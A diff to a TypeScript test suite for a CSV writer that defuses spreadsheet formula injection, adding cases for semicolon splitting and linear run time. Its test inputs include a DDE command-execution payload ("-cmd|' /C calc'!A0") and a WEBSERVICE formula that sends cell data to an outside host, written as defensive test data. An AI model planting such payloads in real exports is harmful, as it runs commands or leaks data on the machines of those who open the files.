@@ -16,6 +16,11 @@ const rowsOfThree = fc.array(
   { minLength: 1, maxLength: 5 },
 );
 
+/** What must not change for a strict reader: everything but the apostrophes that defuse. */
+function withoutApostrophes(rows: readonly (readonly string[])[]): readonly (readonly string[])[] {
+  return rows.map((row) => row.map((cell) => cell.replaceAll("'", '')));
+}
+
 function defused(cell: string): string {
   const isNumber = cell !== '' && !Number.isNaN(Number(cell)) && /^[-+\d.]+$/.test(cell);
   return /^[=+\-@\t\r\n＝＋－＠]/u.test(cell) && !isNumber ? `'${cell}` : cell;
@@ -25,22 +30,50 @@ test('whatever cells hold, a strict reader finds the same rows and cells', () =>
   fc.assert(
     fc.property(rowsOfThree, (rows) => {
       const text = rows.map((row) => csvRow(row)).join('');
-      expect(readCsv(text)).toEqual(rows.map((row) => row.map(defused)));
+      const read = readCsv(text);
+      expect(withoutApostrophes(read)).toEqual(withoutApostrophes(rows));
+      const starts = (table: readonly (readonly string[])[]) => table.map((row) => row.map((cell) => cell.slice(0, 1)));
+      expect(starts(read)).toEqual(starts(rows.map((row) => row.map(defused))));
     }),
   );
 });
 
-test.each(['1\n2', '1\r2', '1\r\n2', '- one\n- two', 'ok\n=1+1', 'ok\r@SUM(A1)'])(
-  'a line break in %j begins no row, and no formula',
+test.each(['1\n2', '1\r2', '1\r\n2', '- one\n- two', 'one; two', 'one\ttwo', 'ok\n+49 170\n- 1 (one)\n-5'])(
+  'a line break or a semicolon in %j begins no row, and changes nothing that people read',
   (answer) => {
     expect(readCsv(csvRow(['a', answer, 'x']))).toEqual([['a', answer.startsWith('-') ? `'${answer}` : answer, 'x']]);
   },
 );
 
+/** A spreadsheet where the list separator is a semicolon, fed with our commas: quotes count at a cell's start only. */
+function splitAtSemicolons(text: string): readonly string[] {
+  return text.split(/[;\t\r\n]/).map((cell) => cell.replace(/^"+/, ''));
+}
+
+test.each([
+  'a;=1+1;b',
+  'a\n=1+1\nb',
+  'a\r@SUM(A1)\rb',
+  'a;"=HYPERLINK(A1);b',
+  "a;-cmd|' /C calc'!A0",
+  'a;+WEBSERVICE("https://example.com/"&A1)',
+  'a\t＝1+1',
+  '\n=1+1',
+])('%j begins no formula where a spreadsheet splits at semicolons', (answer) => {
+  const text = csvRow(['a', answer, 'x']);
+  expect(splitAtSemicolons(text).filter((cell) => /^([=@＝＠]|[+-].*[(|])/u.test(cell))).toEqual([]);
+  expect(text).toMatch(/^a,"/);
+});
+
+test('a row is made in time that grows with its length alone', () => {
+  const long = [';"', ';-', ';-|'].map((start) => `${start}${'"|-('.repeat(100_000)}`);
+  expect(csvRow(long).length).toBeGreaterThan(1_200_000);
+}, 5_000);
+
 const hasPython = spawnSync('python3', ['-c', '0']).status === 0;
 
 test.runIf(hasPython)("Python's csv reads the same cells", () => {
-  const cells = ['a', '1\n2\n=1+1', '1\r2', '"quoted", said', ' spaced ', "it's", '', 'ü😀'];
+  const cells = ['a', '1\n2\n-1+1', '1\r2', '"quoted", said', ' spaced ', "it's", '', 'ü😀'];
   const program =
     'import csv, io, json, sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.buffer.read().decode("utf-8"), newline="")))))';
   const { stdout } = spawnSync('python3', ['-c', program], { input: csvRow(cells).repeat(2) });
@@ -62,7 +95,9 @@ test.each([
   '+49 170',
   '-',
 ])('a cell that begins as in %j is no formula for a spreadsheet', (cell) => {
-  expect(readCsv(csvRow(['a', cell]))).toEqual([['a', `'${cell}`]]);
+  const read = readCsv(csvRow(['a', cell]));
+  expect(read[0]?.[1]).toMatch(/^'/);
+  expect(withoutApostrophes(read)).toEqual([['a', cell]]);
 });
 
 test('other cells and numbers stay as they are', () => {
